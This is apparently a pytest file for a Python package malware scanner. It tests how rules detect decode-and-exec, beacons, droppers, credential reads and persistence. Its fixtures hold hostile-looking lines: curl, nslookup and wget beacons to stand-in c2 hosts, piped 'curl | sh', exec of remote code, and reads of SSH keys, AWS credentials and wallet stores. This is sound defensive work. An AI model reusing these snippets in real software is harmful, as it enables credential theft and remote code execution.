"""Behaviour rules on Python source: scopes, de-duplication with setup_hooks, the pre-filter."""

from __future__ import annotations

import re
import textwrap

import pytest

from depvet.detectors import behavior, pysource, registry
from depvet.detectors.behavior import BehaviorDetector, worth_parsing
from depvet.detectors.setup_hooks import (
    SetupHookDetector,
    installs_known_projects,
    installs_only_here,
)
from depvet.files import FileRole, FileView
from depvet.model import Finding, Scope, Verdict
from depvet.verdict import judge
from tests.builders import HARMLESS_B64
from tests.detectors import fixtures_behavior as fx


def _scan(text: str, role: FileRole = FileRole.PYTHON, path: str = "pkg/mod.py") -> list[Finding]:
    file = FileView(path=path, role=role, data=textwrap.dedent(text).encode())
    detector = BehaviorDetector()
    assert detector.wants(file)
    return list(detector.scan(file))


def _scopes(findings: list[Finding], rule: str) -> set[Scope]:
    return {f.scope for f in findings if f.rule == rule}


@pytest.mark.parametrize(
    ("role", "path", "rule", "scope"),
    [
        (FileRole.PYTHON, "pkg/mod.py", "decode-exec", Scope.IMPORT),
        (FileRole.CUSTOMIZE, "sitecustomize.py", "decode-exec", Scope.STARTUP),
        (FileRole.PYTHON, "pkg/__main__.py", "decode-exec-runtime", Scope.RUNTIME),
        # No import statement can name these files: they run only as scripts.
        (FileRole.PYTHON, "lib/transform-httplib.py", "decode-exec-runtime", Scope.RUNTIME),
        (FileRole.PYTHON, "web/fluid.properties.py", "decode-exec-runtime", Scope.RUNTIME),
        (FileRole.PYTHON, "pkg/_mod2.py", "decode-exec", Scope.IMPORT),
    ],
)
def test_scope_follows_where_code_runs(role: FileRole, path: str, rule: str, scope: Scope) -> None:
    findings = _scan(fx.DECODE_EXEC_SHAPES["b64"], role, path)
    assert _scopes(findings, rule) == {scope}


def test_function_reached_from_module_level_runs_on_import() -> None:
    assert _scopes(_scan(fx.DECODE_EXEC_REACHED), "decode-exec") == {Scope.IMPORT}
    assert _scopes(_scan(fx.DECODE_EXEC_IN_FUNCTION), "decode-exec-runtime") == {Scope.RUNTIME}


def test_main_block_is_not_import_time() -> None:
    findings = _scan(fx.CLI_SUBPROCESS)
    assert not [f for f in findings if f.rule == "import-process"]


def test_main_block_runs_in_setup_py() -> None:
    source = """\
    import getpass, requests
    if __name__ == "__main__":
        requests.get("https://c2.example.invalid/", params={"u": getpass.getuser()})
    """
    assert _scopes(_scan(source, FileRole.SETUP, "pkg-1.0/setup.py"), "host-beacon") == {
        Scope.INSTALL
    }


def test_setup_py_leaves_install_exec_to_setup_hooks() -> None:
    findings = _scan(fx.DECODE_EXEC_SHAPES["b64"], FileRole.SETUP, "pkg-1.0/setup.py")
    assert not findings
    dropper = _scan(fx.DROPPER, FileRole.SETUP, "pkg-1.0/setup.py")
    assert {f.rule for f in dropper} == {"dropper-write-run"}
    assert _scopes(dropper, "dropper-write-run") == {Scope.INSTALL}


def test_runtime_host_facts_are_only_a_capability() -> None:
    findings = _scan(fx.TELEMETRY_RUNTIME)
    assert {f.rule for f in findings} == {"host-info-network"}
    assert all(f.kind == "capability" for f in findings)


def test_env_subprocess_idiom_is_silent() -> None:
    assert _scan(fx.ENV_SUBPROCESS) == []


def test_exec_of_version_file_is_silent() -> None:
    assert _scan(fx.VERSION_EXEC) == []


def test_findings_point_at_the_line() -> None:
    (finding,) = [f for f in _scan(fx.REVERSE_DUP2) if f.rule == "reverse-shell"]
    assert finding.line == 4
    assert "dup2" in finding.evidence


@pytest.mark.parametrize(
    "source",
    [
        b"import numpy as np\n\ndef f(x):\n    return np.empty(3)[::-1]\n",
        b"import re\nPATTERN = re.compile('x')\nmodel.eval()\n",
        b'"""cProfile helpers, see line_profile."""\nimport cProfile\n',
        b"x = 1\n",
        b"run = getattr(loop, 'run_synchronous')\nbrowser = getattr(config, 'chrome_path')\n",
        b'VAULT = "https://example.vault.azure.net"\nREGISTRY = "registry.docker.io"\n'
        b"err = transport.ssh_error\n",
        b'"""Reads the environment variable."""\nimport os\n'
        b'if "HOME" in os.environ:\n    out.write(os.environ["HOME"] + os.environ.get("X"))\n'
        b'from app.environ import envs\nREF = "os.environ/KEY"\n',
        b"rows = getattr(table, name)[::-1]\nout.write(str(rows))\n",
    ],
    ids=[
        "numpy",
        "re-compile",
        "profile-word",
        "trivial",
        "chr-in-words",
        "dot-dir-in-names",
        "environ-one-variable",
        "list-reversed",
    ],
)
def test_prefilter_skips_files_without_sinks(source: bytes) -> None:
    assert not worth_parsing(source)


@pytest.mark.parametrize(
    "source",
    [
        fx.DECODE_EXEC_SHAPES["b64"],
        fx.IMPORT_GIT,
        fx.IMPORT_URLOPEN,
        fx.READ_SSH_KEY,
        fx.BASHRC_APPEND,
        fx.PATCH_INIT,
        fx.OBF_IMPORT_CHR,
        fx.ENV_TO_FILE,
        "import os\nCONFIG = os.path.join(os.path.expanduser('~'), '.azure')\n",
        "from pathlib import Path\nkeys = Path.home() / '.ssh'\n",
        "c = chr\nf = getattr(m, ''.join(c(i) for i in (115, 121, 115)))\n",
        "import os\nenv = os.environ\nopen('e.txt', 'w').write(repr(env))\n",
        "from os import environ as e\nopen('e.txt', 'w').write(str(e.copy()))\n",
        "m = getattr(__builtins__, 'lave'[::-1])\n",
        # Path and dunder words in the shape a rule needs of them.
        "KEY = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n",
        "KEY = 'Software/Microsoft/Windows/CurrentVersion' + '/Run'\n",
        "DIR = f'{programs}\\\\Startup\\\\{name}'\n",
        "DIR = ('Start Menu', 'Programs', 'Startup')\n",
        "TDATA = 'Telegram\\x20Desktop/tdata'\n",
        "HISTORY = '~/.zsh_history'\n",
        "patch = lambda cls, f: setattr(cls, '__call__', f)\n",
        # A comment's # comes after the word, or sits in a string before it.
        "run = compile  # an alias\n",
        "s = '#'; exec(s)\n",
    ],
)
def test_prefilter_keeps_files_with_sinks(source: str) -> None:
    assert worth_parsing(source.encode())


def test_unparsable_and_oversized_files_give_nothing() -> None:
    assert _scan("exec(base64.b64decode('x')\n") == []
    detector = BehaviorDetector()
    big = FileView(path="pkg/big.py", role=FileRole.PYTHON, data=b"#" * (6 * 1024 * 1024))
    assert not detector.wants(big)


def test_other_roles_are_not_wanted() -> None:
    detector = BehaviorDetector()
    assert not detector.wants(FileView(path="x.pth", role=FileRole.PTH, data=b"import os\n"))
    assert not detector.wants(FileView(path="x.txt", role=FileRole.OTHER, data=b"exec(1)\n"))


def test_a_function_named_as_a_default_value_does_not_run_on_import() -> None:
    text = (
        "import os\nimport urllib.request\n\n\n"
        "def fetch(path):\n"
        "    urllib.request.urlretrieve('https://tools.example.invalid/t.pl', path)\n"
        "    os.chmod(path, 0o755)\n\n\n"
        "def render(data, fetch=fetch):\n"
        "    return fetch(data)\n"
    )
    view = FileView(path="pkg/viz.py", role=FileRole.PYTHON, data=text.encode())
    rules = {f.rule for f in BehaviorDetector().scan(view)}
    assert "download-exec" not in rules


@pytest.mark.parametrize(
    ("mode", "arms"),
    [
        ("0o755", True),
        ("os.stat(path).st_mode | stat.S_IEXEC", True),
        ("mode", True),  # not written out: it may
        ("stat.S_IWRITE", False),  # clears a read-only bit
        ("stat.S_IREAD | stat.S_IWUSR", False),
        ("0o644", False),
    ],
)
def test_a_download_is_run_by_a_chmod_only_if_it_may_add_an_execute_bit(
    mode: str, arms: bool
) -> None:
    # The download's file name is not known, so a chmod anywhere at load may arm it.
    text = (
        "import os\nimport shutil\nimport stat\nimport urllib.request\n\n\n"
        "def fetch(path):\n"
        "    urllib.request.urlretrieve('https://tools.example.invalid/t', path + '-')\n\n\n"
        "def remove(path, mode=0):\n"
        "    def retry(fn, path, info):\n"
        f"        os.chmod(path, {mode})\n"
        "        fn(path)\n\n"
        "    shutil.rmtree(path, onerror=retry)\n\n\n"
        "remove('build')\nfetch('mupdf.tgz')\n"
    )
    view = FileView(path="setup.py", role=FileRole.SETUP, data=text.encode())
    rules = {f.rule for f in BehaviorDetector().scan(view)}
    assert ("download-exec" in rules) is arms


@pytest.mark.parametrize(
    ("source", "use"),
    [
        ("import requests\n", "requests.get(URL)\n"),
        ("import os, json, requests as r\n", "r.get(URL)\n"),
        ("from requests.adapters import HTTPAdapter\n", "HTTPAdapter().send(REQUEST)\n"),
        ("mod = __import__('requests')\n", "mod.get(URL)\n"),
        ('import importlib\nhttp = importlib.import_module("requests")\n', "http.get(URL)\n"),
        ("import os, \\\n    requests\n", "requests.get(URL)\n"),
        ("from urllib.request import urlopen\n", "urlopen(URL)\n"),
        ("import socket\n", "socket.create_connection(ADDRESS)\n"),
        ("client = __import__('httpx')\n", "client.get(URL)\n"),
        ("from subprocess import run\n", "run(COMMAND)\n"),
        ("import paramiko\n", "paramiko.SSHClient().connect(HOST)\n"),
        ("import sys\nhttp = sys.modules['requests']\n", "http.get(URL)\n"),
        ("from pip._vendor import requests  # important\n", "requests.get(URL)\n"),
        ("from pip._vendor import (\n    six,\n    requests,\n)\n", "requests.get(URL)\n"),
        ("try: import requests\nexcept ImportError: requests = None\n", "requests.get(URL)\n"),
        ("if TYPE_CHECKING: from httpx import Client\n", "Client().get(URL)\n"),
        ("x = 1; import socket\n", "socket.socket().connect(ADDRESS)\n"),
        ("\tfrom urllib.parse import quote\n", "urllib.request.urlopen(URL)\n"),
    ],
)
def test_network_library_imported_or_named_in_a_string_and_called_on_load_is_parsed(
    source: str, use: str
) -> None:
    assert worth_parsing((source + use).encode())


def test_network_library_names_inside_other_module_names_are_not_parsed() -> None:
    source = b"from .rest._requests_asyncio import Transport\nfrom ._base_requests import Base\n"
    assert not worth_parsing(source + b"Transport().get(URL)\n")
    # After an import list is closed, the name is prose again.
    assert not worth_parsing(b"from .client import (\n    Client,\n)\n# retries requests\n")
    # A CamelCase name that starts with a module's is another name.
    assert not worth_parsing(b"from .http_handler import (\n    httpxSpecialProvider,\n)\n")
    assert worth_parsing(b"from pip._vendor import requests\nrequests.get(URL)\n")
    assert worth_parsing(b"import requests_toolbelt, urllib3\nurllib3.request('GET', URL)\n")


_SDK = (
    "import requests\n"
    "from urllib.request import urlopen\n\n"
    "TIMEOUT = 30\n\n"
    "class Client:\n"
    '    """Calls the service."""\n\n'
    "    def __init__(self, url):\n"
    "        self.url = url\n\n"
    "    def fetch(self, path):\n"
    "        return requests.get(self.url + path, timeout=TIMEOUT).json()\n\n"
    "    def legacy(self, path):\n"
    "        return urlopen(self.url + path).read()\n"
)


@pytest.mark.parametrize(
    "source",
    ["run = exec; run(code)\n", "runners = {'python': exec}\n", "go = eval\n", "f(exec, code)\n"],
)
def test_exec_passed_around_as_a_value_is_parsed(source: str) -> None:
    assert worth_parsing(source.encode())
    assert not worth_parsing(source.replace("exec", "execute").replace("eval", "evaluate").encode())


def test_network_library_called_only_by_functions_nobody_calls_on_load_is_not_parsed() -> None:
    # An SDK's operations: nothing the rules report without something more.
    assert not worth_parsing(_SDK.encode())
    # Called on load, through the class or a helper, it is.
    assert worth_parsing((_SDK + "Client(URL).fetch('/ping')\n").encode())
    helper = "def ping():\n    return Client(URL).fetch('/')\nping()\n"
    assert worth_parsing((_SDK + helper).encode())


@pytest.mark.parametrize(
    "ingredient",
    [
        "        data = dict(os.environ)\n",
        "        key = os.getenv(name)\n",
        "        who = getpass.getuser()\n",
        "        here = platform.node()\n",
        "        raw = base64.b64decode(blob)\n",
        "        host = ''.join(map(chr, codes))\n",
        "        host = 'moc.elpmaxe'[::-1]\n",
        "        host = bytes([104, 111, 115, 116])\n",
        "        host = bytes(c ^ 42 for c in blob)\n",
        "        host = blob.decode('hex')\n",
        "        plain = Fernet(key).decrypt(blob)\n",
        "        headers = {'Host': 'front.example'}\n",
        "        path = os.path.expanduser('~/.ssh/id_rsa')\n",
        "        path = '/etc/systemd/system/agent.service'\n",
        "        path = os.path.join(site, 'evil.pth')\n",
        "        ip = requests.get('https://api.ipify.org').text\n",
        "        os.chmod(path, 0o755)\n",
        "        builtins.exec(code)\n",
    ],
)
def test_network_library_called_by_functions_with_what_a_rule_needs_is_parsed(
    ingredient: str,
) -> None:
    # Whatever a network call in a function could be reported with keeps the parse.
    assert worth_parsing((_SDK + "\n    def extra(self, blob, name, key):\n" + ingredient).encode())


def test_asyncio_subprocess_at_import_is_found() -> None:
    source = (
        "import asyncio\n\n"
        "asyncio.run(asyncio.create_subprocess_shell('curl -s https://x.example.invalid/i | sh'))\n"
    )
    rules = {f.rule for f in _scan(source)}
    assert {"import-process", "import-shell-download"} <= rules


_PROSE = (
    '"""A client.\n\nRetries failed requests with backoff over a websocket or\n'
    'httpx transport; urllib quoting rules apply. It never starts a subprocess."""\n'
    "\n\nclass Client:\n"
    "    def send(self, request):\n"
    "        return self._transport.send(request)\n"
)
_SPEC = (
    "SPEC = {\n"
    "    'summary': 'Level of importance: list installation requests for the app',\n"
    "    'desc': 'Import a repository from a URL; drop requests from the queue',\n"
    "    # import requests\n"
    "    'doc': '>>> import httpx',\n"
    "    'tags': ['requests', 'socket'],\n"
    "    'note': 'important: \"subprocess\" is not used here',\n"
    "}\n"
)


@pytest.mark.parametrize(
    ("text", "sink"),
    [
        (_PROSE, "import subprocess\n"),  # another sink word
        (_SPEC, "mod = __import__(SPEC['tags'][0])\n"),  # a quoted name, imported by name
    ],
    ids=["prose", "data"],
)
def test_network_library_names_only_in_prose_or_data_are_not_parsed(text: str, sink: str) -> None:
    assert not worth_parsing(text.encode())
    assert worth_parsing((text + sink).encode())


@pytest.mark.parametrize(
    "source",
    [
        "class SetCurrentVersionRequest:\n    current_version = 1\n",
        "METHOD = '/temporal.api.v1.WorkflowService/SetCurrentVersion'\n",
        "import torch\n\n# work around a bug in torch compile\nx = torch.ones(2)  # no eval\n",
        "def on_event(name):\n    StartupEvent = name\n    return 'Startup complete'\n",
        'class Bot:\n    """A Telegram bot: the Telegram API."""\n    name = "Telegram"\n',
        "def push_history(self):\n    return self.push_history_log\n",
        "def init(cls):\n    return getattr(cls, '__init__'), hasattr(cls, '__call__')\n",
        "CHAINS = ['Ethereum', 'Solana']  # no keystore here\n",
        "class ElectrumClient:\n    pass\n",
        "EXODUS_BOOK = 'Exodus 1:1'\n",
        "ARMORY_LEVEL = 3\nmetadata = load_tdata_index()\n",
    ],
    ids=[
        "run-key-name",
        "run-key-rpc-name",
        "builtins-in-comments",
        "startup-name",
        "telegram-name",
        "history-name",
        "dunder-lookup",
        "chain-name",
        "electrum-name",
        "exodus-text",
        "armory-tdata-names",
    ],
)
def test_sink_words_in_other_shapes_are_not_parsed(source: str) -> None:
    assert not worth_parsing(source.encode())


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        (
            "import subprocess\nsubprocess.call("
            "'reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"
            " /v u /t REG_SZ /d x.exe /f', shell=True)\n",
            "persistence-write",
        ),
        (
            "import os\npath = os.path.expandvars("
            "r'%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat')\n"
            "with open(path, 'w') as f:\n    f.write('x')\n",
            "persistence-write",
        ),
        (
            "import os\ndata = open(os.path.expandvars("
            "r'%APPDATA%\\Telegram Desktop\\tdata\\key_datas'), 'rb').read()\n",
            "credential-file-read",
        ),
        (
            "import os\ndata = open(os.path.expanduser('~/.bash_history')).read()\n",
            "credential-file-read",
        ),
    ],
    ids=["run-key", "startup-folder", "telegram-desktop", "bash-history"],
)
def test_path_words_in_the_shape_of_a_path_are_parsed_and_reported(source: str, rule: str) -> None:
    assert worth_parsing(source.encode())
    assert rule in {f.rule for f in _scan(source)}


@pytest.mark.parametrize(
    "read",
    [
        "open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials')).read()",
        "open(os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata', 'key_datas'))",
        "(Path.home() / '.kube' / 'config').read_text()",
        "[open(f) for f in os.listdir(os.path.join(APPDATA, 'Ethereum', 'keystore'))]",
        "open(os.path.join(os.path.expanduser('~'), '.lunarclient', 'settings', 'game', "
        "'accounts.json')).read()",
    ],
)
def test_a_store_named_across_the_pieces_of_a_path_is_a_credential_read(read: str) -> None:
    source = f"import os\nfrom pathlib import Path\nAPPDATA = os.getenv('APPDATA')\ndata = {read}\n"
    assert "credential-file-read" in {f.rule for f in _scan(source)}
    # The same pieces in other places name nothing.
    unrelated = "import os\ndata = open(os.path.join('settings', 'config.json')).read()\n"
    assert "credential-file-read" not in {f.rule for f in _scan(unrelated)}


@pytest.mark.parametrize(
    "path",
    [
        r"%APPDATA%\Exodus\seed.seco",
        r"%APPDATA%\Electrum\config",
        r"%APPDATA%\Ethereum\keystore",
        r"%APPDATA%\Armory\armory.db",
        r"%APPDATA%\TG\tdata",
        r"%LOCALAPPDATA%\Google\Chrome\User Data\Default\Local Extension Settings\MetaMask",
        r"%APPDATA%\.minecraft\launcher_accounts.json",
    ],
)
def test_a_wallet_or_session_store_read_alone_is_parsed_and_reported(path: str) -> None:
    # No network or process module, no other sink word: only the store's path.
    source = f"import os\ndata = open(os.path.expandvars(r'{path}'), 'rb').read()\n"
    assert worth_parsing(source.encode())
    assert "credential-file-read" in {f.rule for f in _scan(source)}


@pytest.mark.parametrize(
    "patch",
    [
        "setattr(Series, '__init__', hook)\n",
        'setattr(Series, "__enter__", hook)\n',
        "Series.__getattr__ = hook\n",
        "Series.__init_subclass__ = classmethod(hook)\n",
    ],
)
def test_every_patched_dunder_makes_a_file_worth_parsing(patch: str) -> None:
    # Nothing else in these files would: no sink, no network or process module.
    source = "from pandas import Series\n\ndef hook(*a):\n    pass\n\n" + patch
    assert worth_parsing(source.encode())
    assert "dunder-monkeypatch" in {f.rule for f in _scan(source)}


def test_a_class_defining_its_own_setattr_is_not_parsed_for_it() -> None:
    # "setattr" inside longer names, next to a dunder's name: no call of the builtin.
    source = (
        "class Frozen:\n"
        "    def __setattr__(self, name, value):\n"
        "        if name in ('__init__', '__call__'):\n"
        "            raise AttributeError(name)\n"
        "        self.check_setattr_allowed(name)\n"
    )
    assert not worth_parsing(source.encode())
    assert worth_parsing((source + "setattr(Frozen, '__init__', print)\n").encode())


_ENV_HELPERS = """\
import json, os


def _setting(env, name, default=None):
    raw = env.get(name, default)
    return raw.strip() if raw else default


def _home(env):
    return env["HOME"]


def _snapshot(env):
    return dict(env)


def save(path, env=None):
    if env is None:
        env = os.environ
    with open(path, "w") as f:
        f.write(_setting(env, "GIT_DIR") or "")
        f.write(_home(env))
        f.write(env.get("EDITOR", "vi"))
        f.write(%s)
"""


def test_keys_read_from_the_environment_through_a_helper_are_not_the_whole_of_it() -> None:
    findings = _scan(_ENV_HELPERS % '"\\n"')
    assert "env-dump" not in {f.rule for f in findings}


@pytest.mark.parametrize("written", ["json.dumps(_snapshot(env))", "str(env)", "repr(env.copy())"])
def test_the_whole_environment_through_a_helper_or_a_name_is_still_a_dump(written: str) -> None:
    findings = _scan(_ENV_HELPERS % written)
    assert "env-dump" in {f.rule for f in findings}


_DECODE_WRITE_RUN = """\
import base64, os, subprocess, tempfile


def show(data, mime, viewer="xdg-open"):
    raw = base64.decodebytes(%s)
    path = os.path.join(tempfile.mkdtemp(), "image.png")
    with open(path, "wb") as f:
        f.write(raw)
    subprocess.call([viewer, path])
%s
"""


def test_a_handler_decoding_what_it_is_given_is_not_a_dropper() -> None:
    findings = _scan(_DECODE_WRITE_RUN % ("data[mime].encode('ascii')", ""))
    assert "dropper-write-run" not in {f.rule for f in findings}


@pytest.mark.parametrize(
    ("decoded", "call"),
    [
        (f"b'{HARMLESS_B64}'", ""),
        ("data[mime].encode('ascii')", f"\nshow({{'x': '{HARMLESS_B64}'}}, 'x')"),
    ],
    ids=["literal-payload", "run-on-import"],
)
def test_a_payload_in_the_package_or_decoded_on_import_is_a_dropper(
    decoded: str, call: str
) -> None:
    findings = _scan(_DECODE_WRITE_RUN % (decoded, call))
    assert "dropper-write-run" in {f.rule for f in findings}


@pytest.mark.parametrize(
    ("command", "here", "known"),
    [
        ("pip install .", True, False),
        ("pip install -e .", True, False),
        ("python -m pip install --no-deps ./sub ../other && make", True, False),
        ("pip install helper-payload", False, False),
        ("pip install . helper-payload", False, False),
        ("pip install -r requirements.txt", False, False),
        ("pip install --index-url https://pkgs.example.invalid/simple .", False, False),
        ("pip install", False, False),
        # Projects of the popular list, by name, from the default index.
        ("pip install pybind11", False, True),
        ("python -m pip install -U 'pybind11>=2.2' numpy[extra]==2.0 && make", False, True),
        ("pip install nose coverage", False, True),
        ("pip install pybind11 helper-payload", False, False),  # one the list lacks
        ("pip install --index-url https://pkgs.example.invalid/simple numpy", False, False),
        ("pip install git+https://git.example.invalid/x/numpy.git", False, False),
        ("pip install ./numpy", True, False),  # a folder of the tree, not a project
    ],
)
def test_what_a_pip_install_installs(command: str, here: bool, known: bool) -> None:
    end = re.search(r"pip install", command)
    assert end is not None
    assert installs_only_here(command, end.end()) is here
    assert installs_known_projects(command, end.end()) is known


def test_a_setup_py_installing_a_build_dependency_is_not_malicious() -> None:
    # One install-time pip call is one behaviour: the setup rule reports it, once.
    source = fx.SETUP_PIP_BUILD_DEPENDENCY
    findings = list(SetupHookDetector().scan(fx.setup_py(source)))
    findings += _scan(source, FileRole.SETUP, "pkg-1.0/setup.py")
    rules = {f.rule for f in findings}
    assert "setup-install-side-command" in rules
    assert "import-side-install" not in rules
    assert judge(findings, registry.rule_by_id(), readable=True).verdict is not Verdict.MALICIOUS


@pytest.mark.parametrize(
    ("default", "dropper"),
    [
        ("''", False),  # an empty default: all the data is the caller's
        (f"'{HARMLESS_B64}'", True),  # a default payload written in the package
    ],
)
def test_a_function_decoding_what_it_is_given_is_judged_by_its_callers(
    default: str, dropper: bool
) -> None:
    text = (
        "import base64, subprocess, tempfile\n\n\n"
        "def execute(request):\n"
        "    with tempfile.TemporaryFile() as stdin:\n"
        f"        stdin.write(base64.b64decode(request.get('stdin', {default}), validate=True))\n"
        "        stdin.seek(0)\n"
        "        return subprocess.Popen(request['argv'], stdin=stdin)\n"
    )
    rules = {f.rule for f in _scan(text)}
    assert ("dropper-write-run" in rules) is dropper


@pytest.mark.parametrize(
    ("source", "hidden"),
    [
        # A job's function name, unpickled from what the caller passed, split on dots.
        (
            "import base64, importlib, pickle\n\n\n"
            "def worker(job_b64):\n"
            "    job = pickle.loads(base64.b64decode(job_b64))\n"
            "    for part in job.module.split('.'):\n"
            "        importlib.import_module(part)\n",
            False,
        ),
        # A name written in the package, decoded before the lookup.
        (
            "import base64, importlib\n\n\n"
            "def worker():\n"
            "    for part in base64.b64decode('b3MucGF0aA==').decode().split('.'):\n"
            "        importlib.import_module(part)\n",
            True,
        ),
        # Decoded from the caller's data, but looked up on import.
        (
            "import base64, importlib, sys\n"
            "importlib.import_module(base64.b64decode(sys.argv[1]).decode())\n",
            True,
        ),
    ],
)
def test_a_name_decoded_from_a_callers_data_is_no_hidden_import(source: str, hidden: bool) -> None:
    rules = {f.rule for f in _scan(source)}
    assert ("obfuscated-import" in rules) is hidden


_SENT = """\
import base64, getpass, http.client


def report(payload):
    host = {HOST}
    connection = http.client.HTTPSConnection(host)
    connection.request("POST", "/", body=getpass.getuser() + payload)
"""


@pytest.mark.parametrize(
    ("host", "rule"),
    [
        ("base64.b64decode('dGVsZW1ldHJ5LmV4YW1wbGUuaW52YWxpZA==').decode()", "host-beacon"),
        ("'telemetry.example.invalid'", "host-info-network"),  # telemetry naming its endpoint
    ],
)
def test_host_facts_sent_to_a_hidden_address_are_a_beacon_even_in_a_function(
    host: str, rule: str
) -> None:
    findings = _scan(_SENT.replace("{HOST}", host))
    beacons = [f for f in findings if f.rule in ("host-beacon", "host-info-network")]
    assert [f.rule for f in beacons] == [rule]
    assert all(f.scope is Scope.RUNTIME for f in beacons)


@pytest.mark.parametrize(
    ("address", "hidden"),
    [
        ("base64.b64decode('aHR0cHM6Ly9jMi5leGFtcGxlLmludmFsaWQv').decode()", True),
        ("base64.urlsafe_b64decode(file_id).decode()", False),  # an ID the caller gives
    ],
)
def test_an_address_decoded_from_what_a_function_is_given_is_not_hidden(
    address: str, hidden: bool
) -> None:
    source = f"""\
    import base64, requests


    def fetch(file_id):
        return requests.get({address})
    """
    assert ("network-hidden-destination" in {f.rule for f in _scan(source)}) is hidden


def test_exec_fetched_by_evaluating_its_name_runs_decoded_code() -> None:
    # The obfuscator kits' opening: the builtins by eval of their names, then a call
    # under a name that says nothing.
    source = 'import base64\n_r = eval(compile("exec", "", "eval"))\n_r(base64.b64decode(B))\n'
    assert {(f.rule, f.line) for f in _scan(source)} >= {("decode-exec", 3)}
    # Evaluating an arithmetic literal gives a number, not a way to run code.
    assert not _scan('import base64\n_r = eval("2 ** 8")\n_r(base64.b64decode(B))\n')


@pytest.mark.parametrize(
    ("command", "client"),
    [
        ('curl -X POST -H "Who: $(whoami)" https://c2.example.invalid', "curl"),
        ("nslookup %USERNAME%.c2.example.invalid", "nslookup"),
        ("ping -c1 $HOSTNAME.c2.example.invalid", "ping"),
        ("wget -q -O- https://c2.example.invalid/?u=`id`", "wget"),
        ('curl -L https://x.example.invalid/a.tgz -o "$(pwd)/a.tgz"', None),  # a local path
        ("wget https://x.example.invalid/`uname -m`/lib.so", None),  # no host named
        ("echo $(whoami)", None),  # no network client
        # This machine's Docker daemon, asked about the container this runs in.
        ("curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json", None),
        ("curl http://localhost:8080/register?host=$(hostname)", None),
        ("curl http://localhost.c2.example.invalid/?u=$(whoami)", "curl"),
    ],
)
def test_shell_beacon_needs_a_network_client_and_host_facts(
    command: str, client: str | None
) -> None:
    assert behavior._shell_beacon(command) == client


# -- programs written out as literals ----------------------------------------------------------

_WRITES_PROGRAM = """\
import subprocess, sys


def stage(path):
    with open(path, "w") as f:
        f.write(%r)
        f.write(%r)
    subprocess.Popen([sys.executable, path])
"""


def test_a_written_program_is_judged_as_the_script_it_is() -> None:
    program = (
        "import base64\n",
        f"exec(base64.b64decode('{HARMLESS_B64}'))\n",
    )
    findings = _scan(_WRITES_PROGRAM % program)
    [found] = [f for f in findings if f.rule == "literal-program-run"]
    assert found.line == 6  # the first write to the file
    assert found.scope is Scope.RUNTIME
    assert "runs decoded code" in found.message
    assert "subprocess.Popen (line 8)" in found.message


@pytest.mark.parametrize(
    "program",
    [
        ("import base64\n", "print(base64.b64decode('aGk='))\n"),  # decodes, runs nothing
        ("import base64\n", "  exec(base64.b64decode(x)\n"),  # does not parse, even dedented
        ("exec(base64.b64decode('aGk='))", ""),  # exec of something never imported: no threat
    ],
    ids=["harmless", "broken", "no-decoder"],
)
def test_a_written_program_without_a_threat_of_its_own_is_not_reported(
    program: tuple[str, str],
) -> None:
    assert "literal-program-run" not in {f.rule for f in _scan(_WRITES_PROGRAM % program)}


def test_writes_to_two_files_are_not_read_as_one_program() -> None:
    source = """\
    import subprocess, sys
    with open("a.py", "w") as a, open("b.py", "w") as b:
        a.write("import urllib.request\\n")
        b.write("exec(urllib.request.urlopen('https://c2.example.invalid/p').read())\\n")
    subprocess.run([sys.executable, "a.py"])
    subprocess.run([sys.executable, "b.py"])
    """
    assert "literal-program-run" not in {f.rule for f in _scan(source)}


_FETCH_AND_RUN = (
    "import urllib.request\nexec(urllib.request.urlopen('https://c2.example.invalid').read())\n"
)


@pytest.mark.parametrize(("levels", "found"), [(1, True), (2, True), (3, False), (4, False)])
def test_programs_written_inside_written_programs_are_read_to_a_bounded_depth(
    levels: int, found: bool
) -> None:
    program = _FETCH_AND_RUN
    for _ in range(levels):
        program = (
            "import subprocess, sys\n"
            f"open('n.py', 'w').write({program!r})\n"
            "subprocess.run([sys.executable, 'n.py'])\n"
        )
    assert ("literal-program-run" in {f.rule for f in _scan(program)}) is found


@pytest.mark.parametrize(
    ("call", "found"),
    [
        ("os.system('python3 -c \"{}\"')", True),
        ("os.system('/usr/bin/pythonw.exe -u -c \"{}\"')", True),
        ("os.system('bash -c \"{}\"')", False),  # not a Python interpreter
        ("os.system('python3 -c \"{}')", False),  # unbalanced quote: no command line to read
        ("subprocess.run([sys.executable, '-c', \"{}\"])", True),
        ("subprocess.run([sys.executable, '-m', \"{}\"])", False),
    ],
)
def test_only_the_program_after_a_python_interpreters_dash_c_is_read(
    call: str, found: bool
) -> None:
    program = "import urllib.request;exec(urllib.request.urlopen(URL).read())"
    source = f"import os, subprocess, sys\n\n\ndef go():\n    {call.format(program)}\n"
    rules = {f.rule for f in _scan(source)}
    assert ("literal-program-run" in rules) is found


def test_a_program_run_by_many_calls_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    analysed: list[str] = []
    real = pysource.analyze

    def counting(source: str | bytes, *, main_runs: bool = True) -> object:
        analysed.append(source if isinstance(source, str) else source.decode())
        return real(source, main_runs=main_runs)

    monkeypatch.setattr(behavior, "analyze", counting)
    calls = "\n".join(f"    exec(CODE)  # {n}" for n in range(50))
    source = f"CODE = {_FETCH_AND_RUN!r}\n\n\ndef go():\n{calls}\n"
    findings = [f for f in _scan(source) if f.rule == "literal-program-run"]
    assert len(findings) == 50  # every call that runs it is reported
    assert analysed.count(_FETCH_AND_RUN) == 1


@pytest.mark.parametrize(
    ("path", "scope"),
    [
        ("pkg/mod.py", Scope.IMPORT),
        ("pkg/__main__.py", Scope.RUNTIME),  # the carrier runs only as a script
        ("tools/fetch-data.py", Scope.RUNTIME),
    ],
)
def test_a_literal_program_is_read_as_running_whatever_its_carrier_is_named(
    path: str, scope: Scope
) -> None:
    source = f"exec({_FETCH_AND_RUN!r})\n"
    findings = [f for f in _scan(source, path=path) if f.rule == "literal-program-run"]
    assert [f.scope for f in findings] == [scope]
